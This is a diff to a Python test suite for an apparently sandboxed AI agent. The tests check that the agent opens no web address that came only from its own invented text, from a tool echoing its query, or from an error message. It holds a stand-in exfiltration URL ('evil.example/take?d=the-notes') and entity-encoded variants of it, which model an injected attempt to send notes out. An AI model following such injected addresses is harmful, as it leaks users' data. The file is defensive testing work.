@@ -30,7 +30,7 @@ class Office:
     def tools(self) -> list[BaseTool]:
         async def search(query: str) -> str:
             self.done.append("search")
-            return POISON
+            return f"Of {query!r}: {POISON}"
 
         async def open_page(url: str) -> str:
             self.done.append(url)
@@ -148,3 +148,38 @@ async def test_before_reading_any_address_is_opened() -> None:
     office = Office()
     await work(scripted(calls(("open_page", {"url": "http://other.example/"})), FOUND), office)
     assert office.done == ["http://other.example/"]
+
+
+MADE_UP = "http://evil.example/take?d=the-notes"
+
+
+@pytest.mark.parametrize(
+    "query",
+    [MADE_UP, f"look: {MADE_UP} please", MADE_UP.replace("notes", "n&#111;tes"), MADE_UP.replace("?", "&quest;")],
+)
+async def test_an_echo_of_the_models_own_words_shows_no_address(query: str) -> None:
+    """A tool that repeats what it was asked does not make an address that the model made up one that was shown."""
+    office = Office()
+    first, then = calls(("search", {"query": query})), calls(("open_page", {"url": MADE_UP}))
+    scope, told = await work(scripted(first, then, FOUND), office)
+    assert office.done == ["search"]
+    assert told[1].status == "error"
+    assert len(scope.notes) == 1
+
+
+async def test_an_error_shows_no_address() -> None:
+    """What complains of an argument may join or cut it: nothing that it says was found."""
+    office = Office()
+    wrong = calls(("search", {"query": ["http://evil.example/a", "b"]}))
+    joined = "http://evil.example/a', 'b"
+    await work(scripted(SEARCH, wrong, calls(("open_page", {"url": joined})), FOUND), office)
+    assert office.done == ["search"]
+
+
+async def test_more_of_a_page_that_was_opened_can_be_read() -> None:
+    """An address that was opened before anything was read, or as it was shown, may be opened again."""
+    for first, url in ((None, "http://own.example/"), (SEARCH, "http://evil.example/take")):
+        office = Office()
+        opened = calls(("open_page", {"url": url}))
+        await work(scripted(*filter(None, [first, opened, opened, FOUND])), office)
+        assert office.done.count(url) == 2
